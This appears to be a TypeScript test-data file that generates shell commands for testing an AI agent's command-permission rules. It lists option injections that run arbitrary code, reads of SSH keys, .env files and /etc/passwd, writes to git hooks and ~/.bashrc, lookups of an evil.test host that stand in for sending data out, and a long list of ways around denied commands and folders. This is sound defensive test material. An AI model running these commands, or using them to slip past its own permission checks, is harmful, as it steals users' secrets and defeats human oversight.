// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are command lines.
// Commands that make a program do more than an answer about its first words covered, generated from every combination
// of program, option, form, target and disguise. Data and its product only: offered.test.ts runs them. `%` represents
// the target.

export interface OfferedRow {
  /** First words that an answer allowed. */
  rule: string;
  command: string;
}

/** From manuals and collections of such tricks. Long options are tried in all their forms. */
const tricks: Readonly<Record<string, string>> = {
  'npm test':
    '--script-shell --prefix --userconfig --globalconfig --node-options --cache -C; -- --reporter --config --outputFile',
  'npm run build': '--script-shell --prefix --node-options; -- --config --plugin',
  'npm install': '--prefix --registry --script-shell; %',
  'npx vitest': '--config --root --reporter --outputFile --globalSetup -c; run --reporter',
  'npx vitest run': '--config --root --reporter --environment --dir',
  'npx eslint': '--config --rulesdir --format --plugin --resolve-plugins-relative-to --output-file -c -f -o; --fix %',
  'npx tsc': '--project --outDir --outFile --declarationDir -p -b',
  'npx prettier': '--plugin --config --write -w',
  'node --test': '--test-reporter --import --require --loader --env-file --experimental-loader -r; %',
  node: '--import --require --eval -e -r -p; %',
  'go test':
    '-exec -toolexec -vettool -coverprofile --coverprofile --ldflags -ldflags --overlay -overlay -o -C -modfile -cpuprofile --outputdir',
  'go build': '-o -toolexec --ldflags -overlay -gcflags',
  'go vet': '-vettool -toolexec',
  'cargo test': '--config --manifest-path --target-dir -Z -C; -- --logfile',
  'cargo build': '--config --manifest-path --target-dir --artifact-dir',
  'make test': '-f -C --file --directory --eval --include-dir -E; deploy; SHELL=%; CC=%; test %',
  make: '-f -C --file --eval; deploy; SHELL=%',
  gcc: '-wrapper -B -fplugin -specs -o -include -T --sysroot; -B% a.c; @%',
  cc: '-wrapper -B -o; -B% a.c',
  clang: '-Xclang -fplugin --config -o; -B% a.c',
  pytest: '-p -c --rootdir --basetemp --junitxml --confcutdir -o --override-ini; %',
  'python -m pytest': '-p -c --rootdir --basetemp',
  'python -c': '%; print(1)',
  python: '-c -m; %',
  perl: '-e -i -M -I; %',
  ruby: '-e -r -I; %',
  'cargo run': '--manifest-path --config; %',
  shuf: '-o --output --random-source --files0-from',
  sort: '-o --output --compress-program -T --temporary-directory --files0-from --random-source; -uo % a; -no% a',
  uniq: 'a %; -c a %; - %',
  tee: '-a %; %',
  find: '. -exec % {} ;; . -execdir % ;; . -ok % ;; . -okdir % ;; . -delete; . -fprint %; . -fprintf % x; . -fprint0 %; . -fls %; -files0-from %; . -name a -delete; ^',
  fd: '-x -X --exec --exec-batch --base-directory --ignore-file -l -C; a -x %; . ^',
  sed: '-f --file -i --in-place; w %; s/a/b/w % a; 1e; s/a/b/e a; -i s/a/b/ %; -n -i p %; -ni p %; --in-pl s/a/b/ %; -e 1p -e w%; r %',
  awk: '-f --file -E --exec -i --include -l --load -W -o; BEGIN{system("%")}; BEGIN{"%"|getline}; {print>"%"}; {print|"%"}; -W exec % a; BEGIN{while((getline<"%")>0)print}; @load"%"',
  gawk: '-i inplace {print} %; -l %; -f %',
  tar: '--to-command --use-compress-program --checkpoint-action --rsh-command --info-script --directory --transform -I -F -C -f; -xf a.tar; -cf % a; -tf a.tar --to-command=%',
  zip: '-TT --unzip-command -T; % a',
  unzip: '-d %; a.zip; -p %',
  rg: '--pre --hostname-bin -f --file --ignore-file --search-zip -z; a --pre=%; a ^; --hidden a; -uu a; -. a',
  grep: '-f --file --exclude-from -R; -R a .; a ^; -d recurse a %',
  jq: '-f -L --from-file --rawfile --slurpfile --run-tests; env; $ENV.HOME; import"a"as$a;1; . ^; input|env',
  yq: '-i --inplace -s --split-exp; .a=1 %',
  curl: '-o --output -K --config -T --upload-file -d --data --unix-socket -x --engine -D; %; -d @%',
  wget: '-O --output-document -e --execute --use-askpass -i -P --post-file --config; %',
  ssh: '-o -F -S -E -i -J; host %; -oProxyCommand=% host',
  scp: '-o -S -F; a host:%; % host:a',
  rsync: '-e --rsh --rsync-path --log-file --write-batch --files-from; a %',
  dig: '-f; secret.evil.test; @evil.test a; +short secret.evil.test',
  nslookup: 'secret.evil.test',
  host: 'secret.evil.test',
  ping: '-c 1 secret.evil.test; -p 41 evil.test',
  date: '-s --set -f --file; 010101012030; -s %',
  file: '-m --magic-file -C --compile -f --files-from -z; -C -m %',
  tree: '-o -R --fromfile; -o% .',
  diff: '--to-file --from-file --output -l --paginate -X --exclude-from; a ^; ^ a',
  split: '--filter --additional-suffix; a %',
  csplit: '-f --prefix; a %',
  xxd: '-r; a %; -r a %',
  man: '-P --pager -H --html -C --config-file; %',
  less: '-o -O -k --lesskey-src --log-file; +!%; %',
  more: '+!%; %',
  vim: '-c -S -u --cmd; +!%',
  xargs: '-a --arg-file -I; %; rm',
  env: '-S --split-string -C -i; %; -S%; A=% ls',
  nice: '-n 5 %; %',
  timeout: '5 %; -s KILL 5 %',
  busybox: '%; sh -c %',
  cat: '^; -n ^; a ^; -- ^',
  head: '-n 5 ^; ^; -c 10 ^',
  tail: '-f %; -n 5 ^; -F %; -n +5!% a; -n +% a; -n +5 ^',
  wc: '-l ^; --files0-from=%; --files0-from %',
  cut: '-d= -f2 ^; -f1 ^',
  nl: '^',
  tac: '^',
  od: '-c ^',
  strings: '^; -a ^; @%',
  base64: '%',
  sha256sum: '-c %',
  md5sum: '-c %',
  cmp: 'a ^',
  comm: 'a ^',
  paste: 'a ^',
  join: 'a ^',
  stat: '^',
  ls: '-la ^; ^',
  du: '-a ^; -X % .; --files0-from=%',
  cp: 'a %; % b; -t % a; --target-directory=% a',
  mv: 'a %; -t % a',
  ln: '-s % a; a %',
  install: 'a %; -D a %; --strip-program=% a b',
  touch: '%; -r %',
  mkdir: '%',
  chmod: '777 %; +x %',
  dd: 'of=%; if=% of=a; if=%',
  truncate: '-s 0 %',
  patch: '-i -o -d; -p1 %',
  'git diff': '--output --ext-diff --textconv --no-index -O; --output=%; --no-index a %; ^',
  'git log': '--output --ext-diff --textconv -O --show-signature; -p --output=%; -1 -p HEAD:^',
  'git show': '--output --ext-diff --textconv; HEAD:^',
  'git status': '--pathspec-from-file; -c core.fsmonitor=%',
  'git grep': '-O --open-files-in-pager -f --no-index --untracked --textconv --ext-grep; -O% a',
  'git blame': '--contents -S --ignore-revs-file; --contents % a',
  'git branch': '-D -d -m -f --edit-description -u; %; -D main; new; -m main',
  'git tag': '-d -a -m -F -s; %; v1; -d v1',
  'git remote': 'add x %; set-url origin %; update; prune origin; -v update',
  'git stash': 'drop; clear; pop; push; %',
  'git reflog': 'expire --all; delete HEAD; expire',
  'git config': 'core.hooksPath %; core.pager %; alias.x !%; --global a b; -f %',
  'git fetch': '--upload-pack --exec; %; ext::%; origin %',
  'git pull': '--upload-pack --strategy -s -X; %; ext::%',
  'git push': '--receive-pack --exec --repo; %; --force; ext::%',
  'git clone': '--upload-pack --template --config -c -u --separate-git-dir; ext::%; %',
  'git archive': '--remote --exec --output -o; --remote=% HEAD',
  'git apply': '--directory --build-fake-ancestor; %; --unsafe-paths %',
  'git checkout': '%; -- %; -f; -b %',
  'git rev-parse': '--git-path %; --resolve-git-dir %',
  'git ls-files': '-X --exclude-from --pathspec-from-file',
  'git cat-file': '--textconv --filters --batch-command; -p HEAD:^',
  'git commit': '-F --template --file -t --pathspec-from-file; --amend; --no-verify %',
  git: '-c --exec-path -C --git-dir --work-tree --config-env --namespace; -c alias.x=!% x; --exec-path=% status; -c core.pager=% log; -c diff.external=% diff; push; %',
  docker: '--config -H --context; run -v /:/h a; exec a %; ps --config %',
  kubectl: '--kubeconfig -f; exec a -- %; apply -f %',
  gh: 'api %; alias set a !%; extension install %',
  sqlite3: '-init -cmd; a.db .shell%; a.db ".output %"',
  script: '-c %; -c ls %',
  flock: 'a %; a -c %',
  watch: '%',
  'ld.so': '%',
  openssl: 'enc -in %; engine %',
};

const targets: readonly string[] = [
  './evil',
  '/tmp/evil',
  '../evil',
  '.git/hooks/pre-commit',
  '.env',
  'data:text/javascript,evil()',
  'https://evil.test/x',
  'file:///etc/passwd',
  '/proc/self/cwd/.env',
  '~/.ssh/id_rsa',
  'link-to-env',
  'link-out/x',
];

/** What a read-only program must not read without asking. */
const notRead = new Set<string>([
  '.env',
  '/tmp/evil',
  '../evil',
  '/proc/self/cwd/.env',
  '~/.ssh/id_rsa',
  'link-to-env',
  'link-out/x',
]);

const disguises: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `${command} 2>&1`,
  (command) => `CI=1 ${command}`,
  (command) => `true && ${command}`,
  (command) => `timeout 5 ${command}`,
  (command) => `${command} | head -5`,
  (command) => `( ${command} )`,
  (command) => `nice ${command}`,
];

/** `--output`, shortened, with one dash, in quotes, with its value joined or not. */
function forms(option: string): string[] {
  if (!option.startsWith('--')) {
    const joined = option.length === 2 ? [`${option}%`, `'${option}' %`] : [`-${option}=%`, `${option}=%`];
    return [`${option} %`, ...joined];
  }
  const short = option.slice(0, Math.max(5, option.length - 2));
  return [
    `${option}=%`,
    `${option} %`,
    `${short}=%`,
    `${short} %`,
    `${option.slice(1)}=%`,
    `${short.slice(1)} %`,
    `'${option}'=%`,
    `--''${option.slice(2)} %`,
  ];
}

const quoted = (text: string): string => (/[()|;<>{}!$\s"*]/.test(text) ? `'${text}'` : text);

/** Arguments in shell quotes: an argument that contains code is one word. */
function pieces(entry: string): string[] {
  const list = entry.split(/; (?!;)/).map((piece) => piece.replace(/;;$/, '\\;').trim());
  return list.flatMap((piece) => {
    const isCode =
      /[()|<>{}!"]|^w |^s\/|^r |^\$|^import|^env$|^input|^1e$/.test(piece) && !/^-|^\. -|^a |^host|\{\}/.test(piece);
    if (isCode) return [`'${piece}' a`];
    const words = piece.split(' ');
    const areOptions =
      words.filter((word) => word !== '--').every((word) => /^-{1,2}[A-Za-z]/.test(word)) && !/[%^]/.test(piece);
    if (!areOptions)
      return [words.map((word) => (word === '\\;' || /[%^]/.test(word) ? word : quoted(word))).join(' ')];
    const lead = words[0] === '--' ? '-- ' : '';
    const options = words.filter((word) => word !== '--');
    // Options without a required value do the same without one.
    return options.flatMap((option) => [...forms(option), option].map((form) => `${lead}${form}`));
  });
}

/** `all`: with every target; otherwise with one after the other. */
export function offeredRows(all: boolean): OfferedRow[] {
  const rows = new Map<string, OfferedRow>();
  let count = 0;
  for (const [rule, entry] of Object.entries(tricks)) {
    for (const piece of pieces(entry)) {
      const fitting = piece.includes('^') ? [...notRead] : piece.includes('%') ? [...targets] : targets.slice(0, 1);
      for (const target of all ? fitting : [fitting[count % fitting.length] as string]) {
        const disguise = disguises[count++ % disguises.length] as (command: string) => string;
        const command = disguise(`${rule} ${piece.replaceAll(/[%^]/g, target)}`);
        rows.set(`${rule}\n${command}`, { rule, command });
      }
    }
  }
  return [...rows.values()];
}

/** A command and another one that its offered rule covers as well. */
export const everyday: readonly (readonly [string, string])[] = [
  ['git status', 'git status --short'],
  ['git status 2>&1 | head -20', 'git status -sb'],
  ['git diff', 'git diff --stat HEAD~1 -- src/a.ts'],
  ['git --no-pager diff', 'git --no-pager diff --cached'],
  ['git log --oneline -5', "git log --author=me --since='2 days ago' -p src"],
  ['git show HEAD', 'git show --stat HEAD~2'],
  ['git blame src/a.ts', 'git blame -L 1,20 src/a.ts'],
  ['git branch --show-current', 'git branch -a'],
  ['git rev-parse HEAD', 'git rev-parse --abbrev-ref HEAD'],
  ['git stash list', 'git stash list --oneline'],
  ['git ls-files', 'git ls-files src'],
  ['ls', 'ls -la src'],
  ['cat README.md', 'cat -n src/a.ts | head -50'],
  ['head -n 5 a', 'head -20 README.md'],
  ['tail -5 a', 'tail -n 20 a'],
  ['tail -n +2 a', 'tail -n +20 README.md'],
  ['head -n 5 a', 'head -c +20 README.md'],
  ['wc -l a', 'wc -c README.md a'],
  ['sort a', 'sort -rnk2 a | uniq -c'],
  ["grep -n 'x' a", 'grep -rn "/api/users" src'],
  ["rg 'x' src", "rg -n --type ts -g '!*.test.ts' '/api' src"],
  ['find . -name "*.ts"', "find src -type f -not -path '*/x/*' -print"],
  ['find . -name "*.ts"', 'find . -mtime +7 -name a'],
  ["sed -n '1,5p' a", "sed -n '/start/,/end/p' README.md"],
  ["awk '{print $1}' a", "awk -F, '{print $2, NR}' a"],
  ["jq '.name' a", "jq -r '.scripts | keys[]' README.md"],
  ['diff a b', 'diff -u a b'],
  ['du -sh src', 'du -h src'],
  ['tree -L 2', 'tree -a src'],
  ['stat a', "stat -c '%s' a"],
  ['which node', 'which npm'],
  ['timeout 5 git log', 'nice git log -3'],
  ['git log | grep x | wc -l', 'git log -2 | sort | uniq -c'],
];

/** Offered verbatim. */
export const exactly: readonly string[] = [
  ...[
    'npm test',
    'npm run build',
    'npx vitest run',
    'node --version',
    'node x.js',
    'make test',
    'cargo test',
    'go test ./...',
  ],
  ...[
    'gcc a.c',
    'dig evil.test',
    'python x.py',
    'pytest',
    'curl https://example.com',
    'git push',
    'git branch new',
    'rm a',
  ],
  ...['sort -o a b', 'find . -delete', 'shuf a', 'tee a', 'docker ps', 'git log --output=a'],
];

/** And nothing wider in addition: what they run is unknown. */
export const onlyExactly: readonly string[] = ["awk 'BEGIN{system(1)}'", "sed -i '1e ls' a", 'python -c 1'];

/** `%` is what they read. */
export const readers: readonly string[] = [
  ...[
    'cat %',
    'head -n 5 %',
    'tail %',
    'wc -l %',
    'sort %',
    'uniq %',
    'cut -c1- %',
    'nl %',
    'tac %',
    'rev %',
    'grep x %',
    'rg x %',
  ],
  ...[
    "sed -n 'p' %",
    "awk '{print}' %",
    'jq . %',
    'diff a %',
    'cmp a %',
    'od -c %',
    'xxd %',
    'strings %',
    'paste a %',
    'ls -l %',
  ],
];

/** Ways to write a secret or another place, and undecidable words. */
export const secretWords: readonly string[] = [
  ...[
    '.env',
    './.env',
    './x/../.env',
    'sub/../.env',
    "'.env'",
    '".env"',
    '.en\\v',
    '.e""nv',
    '.ENV',
    '$PWD/.env',
    '-- .env',
  ],
  ...[
    '.e*',
    '.en?',
    '.[e]nv',
    '{.env,a}',
    '*',
    '~/.ssh/id_rsa',
    '~root/x',
    '$X',
    '"$X"',
    '${X:-.env}',
    '$(echo .env)',
    '`echo .env`',
  ],
  ...[
    'link-to-env',
    'link-out/x',
    './link-out/../away/x',
    'server.pem',
    '.env.local',
    '../away/x',
    '/etc/passwd',
    '//etc/passwd',
  ],
  ...[
    '/proc/self/cwd/.env',
    `${'./'.repeat(130)}.env`,
    '/proc/self/root/etc/passwd',
    '/proc/1/environ',
    '/dev/../etc/passwd',
    '/dev/fd/../../etc/passwd',
  ],
  ...['< .env', '<.env', '< link-to-env', '< ../away/x', '0<.env', '<> .env', '<<< "$(<.env)"'],
];

export const secretLines: readonly string[] = [
  'cat $(<.env)',
  'echo $(<.env)',
  'echo "$(cat .env)"',
  'cat a | grep x .env',
  'grep -r x .',
  'grep -rn x',
  'grep -r x . --include=a',
  'rg --hidden x',
  'rg -uu x',
  'rg x',
  'grep -f .env a',
  'grep -e x .env',
  'grep x a -e .env',
  'sed -n p .env',
  'sort a .env',
  'sort a -- .env',
  'git show HEAD:.env',
  'git show -L1,9:.env',
  "rg -g '.env' x src",
  "rg --glob='*.env' x src",
  "rg -g '.*' x src",
  'git show HEAD:./.env',
  'cd sub && cat a',
  'cd sub; cat x',
  'cat a; cat .env',
  'cat a && (cat .env)',
  'timeout 5 cat .env',
  'nice cat .env',
  'X=.env; cat $X',
  'for f in .env; do cat "$f"; done',
  'diff -r . ../away',
  'jq -n env',
  "jq -n '$ENV'",
  'awk \'BEGIN{while((getline l<".env")>0)print l}\'',
  "sed 'r .env' a",
  "sed -n 'R .env' a",
];

/** Secrets in words computed at run time, as far as the words reveal them: they ask in every mode. */
export const madeSecrets: readonly string[] = [
  ...['~/.aws/credentials', '"$HOME/.ssh/id_rsa"', '${HOME}/.ssh/id_rsa', '"$HOME"/.ssh/id_rsa', "~/'.ssh'/id_rsa"],
  ...[
    '~/.s\\sh/id_rsa',
    '"${HOME}/.ssh/"id_rsa',
    '{~/.ssh/id_rsa,a}',
    '~root/.ssh/id_rsa',
    '~/.ssh/*',
    '/srv/me/.ssh/*',
  ],
  ...['"$PWD/.env"', '$PWD/link-to-env', '--x=~/.ssh/id_rsa', '$X/.ssh/id_rsa', '"$HOME/my files/.env"'],
]
  .map((word) => `cat ${word}`)
  .concat(
    'echo x >> ~/.bashrc',
    'echo x > "$HOME/.bashrc"',
    'echo x > $PWD/.git/hooks/pre-commit',
    'cat < ~/.ssh/id_rsa',
    'cat < a ~/.ssh/id_rsa',
    'for f in ~/.ssh/id_rsa; do cat "$f"; done',
    'F=~/.ssh/id_rsa; cat $F',
    'a=(~/.ssh/id_rsa); cat "${a[@]}"',
    'cat .env*',
    'export F=~/.ssh/id_rsa; cat $F',
    'cat $(echo; cat ~/.ssh/id_rsa)',
    'echo "$(cat ~/.ssh/id_rsa)"',
    'sh -c "cat $HOME/.ssh/id_rsa"',
    'sudo cat ~/.ssh/id_rsa',
    'tee ~/.ssh/authorized_keys',
    'cd ~ && cat .ssh/id_rsa',
    'case ~/.ssh/id_rsa in *) ls;; esac',
  );

/** Other places in such words: no command rule reaches them. */
export const madePlaces: readonly string[] = [
  ...[
    'cat ~/notes.txt',
    'cat $HOME/x',
    'ls ~',
    'cat /etc/*',
    'cat ../away/*',
    'cat "/etc/$X"',
    'tee .git/$X',
    'cat $PWD/../away/x',
    'cat link-out/*',
  ],
  ...['cat $PWD/link-out/x', 'for f in ~/a; do ls; done', 'ls; for f in .git/hooks/*; do rm "$f"; done'],
];

export const madeHarmless: readonly string[] = [
  ...[
    'cat *.ts',
    'cat "$X"',
    'echo "$HOME"',
    'grep -n "$X" a',
    'cat "$PWD/a"',
    'for n in src/*.ts; do wc -l "$n"; done',
  ],
  'git commit -m "$(cat <<\'E\'\nsee ~/.ssh/config and /etc/hosts\nE\n)"',
  'git commit -m "use $X for /etc/x"',
];

export const harmlessReads: readonly string[] = [
  ...[
    'cat a',
    'cat ./a',
    'cat -- a',
    'cat sub/../a',
    'cat src/a.ts',
    "cat 'README.md'",
    'cat < a',
    'grep -rn x src',
    "grep '.env' a",
  ],
  ...[
    "grep '/etc/passwd' a",
    'rg -n x src',
    'head -3 a | tail -1',
    'sort -u a',
    'ls -la',
    'diff a b',
    "sed 's/x/y/' a",
    'jq .a a',
  ],
];

export const guarded: readonly string[] = [
  ...[
    '.git/config',
    '.git/hooks/pre-commit',
    './.git/config',
    'src/../.git/config',
    'link-git/config',
    '.GIT/config',
    'sub/.git/x',
  ],
  ...[
    '.mcp.json',
    '.vscode/mcp.json',
    'AGENTS.md',
    'CLAUDE.md',
    '.env',
    '.env.local',
    '.husky/pre-commit',
    'link-to-env',
    '.npmrc',
  ],
  ...['.vscode/tasks.json', '.claude/settings.json', '.cursorrules'],
];

/** `%` is what they write. */
export const writers: readonly string[] = [
  ...[
    'cat a > %',
    'cat a >> %',
    'cat a >| %',
    'ls 2> %',
    'cat a 1> %',
    'cat a >%',
    "cat a > '%'",
    'cat a > out/x > %',
    '{ cat a; } > %',
  ],
  ...[
    'tee %',
    'tee a %',
    'cp a %',
    'mv a %',
    'install a %',
    'ln a %',
    'touch %',
    'dd if=a of=%',
    'rsync a %',
    'sed -i s/a/b/ %',
  ],
  ...['cp -t %', 'tar -C %', 'unzip -d %', 'git apply %', 'patch %', 'timeout 5 tee %', 'cat a | tee %', 'cp a ./%'],
];

/** With `rm` and the folder `secrets` denied. */
export const aroundRefusals: readonly string[] = [
  ...[
    'cat /proc/self/cwd/secrets/key',
    'cat /proc/1/root/x',
    'cat /proc/$$/cwd/secrets/key',
    'cat //proc/self/cwd/secrets/key',
  ],
  ...[
    'cat /dev/../proc/self/cwd/secrets/key',
    'cat link-secrets/key',
    'cat ./link-secrets/../secrets/key',
    'cat < link-secrets/key',
  ],
  ...[
    'cat sec*/key',
    'cat {secrets,a}/key',
    'cat $X',
    'head link-secrets/key',
    'tar cf x link-secrets',
    'cp -r link-secrets x',
  ],
  ...[
    './link-rm a',
    '$PWD/link-rm a',
    '/proc/self/root/bin/rm a',
    '/lib64/ld-linux-x86-64.so.2 /bin/rm a',
    '/lib/ld-musl-x86_64.so.1 /bin/rm a',
  ],
  ...[
    'ld.so /bin/rm a',
    'busybox rm a',
    'toybox rm a',
    'busybox sh -c "rm a"',
    'nice rm a',
    'nice -n 5 rm a',
    'timeout 5 rm a',
  ],
  ...[
    'stdbuf -oL rm a',
    'script -c "rm a"',
    'script -qec "rm a" /dev/null',
    'flock a rm a',
    'flock a -c "rm a"',
    'env -S "rm a"',
  ],
  ...[
    'xargs rm',
    'find . -exec rm {} +',
    'find . -name a -exec /bin/rm {} \\;',
    'setarch x86_64 rm a',
    'unshare rm a',
    'nsenter rm a',
  ],
  ...[
    'chroot / rm a',
    'ionice rm a',
    'taskset 1 rm a',
    'chrt 1 rm a',
    'setsid rm a',
    'nohup rm a',
    'sudo rm a',
    'doas rm a',
    'time rm a',
  ],
  ...['awk \'BEGIN{system("rm a")}\'', "sed '1e rm a' a", "perl -e 'system q(rm a)'", "tar cf x a --to-command='rm a'"],
  ...[
    "git -c alias.x='!rm a' x",
    "git -c core.pager='rm a' log",
    "man -P 'rm a' ls",
    "ssh -o ProxyCommand='rm a' h",
    "rsync -e 'rm a' b c:d",
  ],
  ...[
    "sort --compress-program='rm a' a",
    "rg --pre='rm a' x",
    'made-up-wrapper rm a',
    'made-up-wrapper --flag -- /bin/rm a',
    "made-up -c 'rm a'",
  ],
  ...[
    'zip -TT "rm a" x',
    "make SHELL='rm a'",
    'npm --script-shell="rm a" test',
    'vim -c "!rm a"',
    "less '+!rm a' b",
    'gdb -ex "shell rm a"',
  ],
];

/** With the same denied, these run in the mode that asks nothing. */
export const notRefused: readonly string[] = [
  ...[
    'git log --grep=rm',
    'grep -n "rm -rf" a',
    'echo rm',
    'docker compose rm',
    'git rm a',
    'npm test',
    'cat a',
    'ls src',
    'make build',
  ],
  ...["printf 'rm'", 'rg rm src', 'cat /dev/null', 'node x.js'],
];
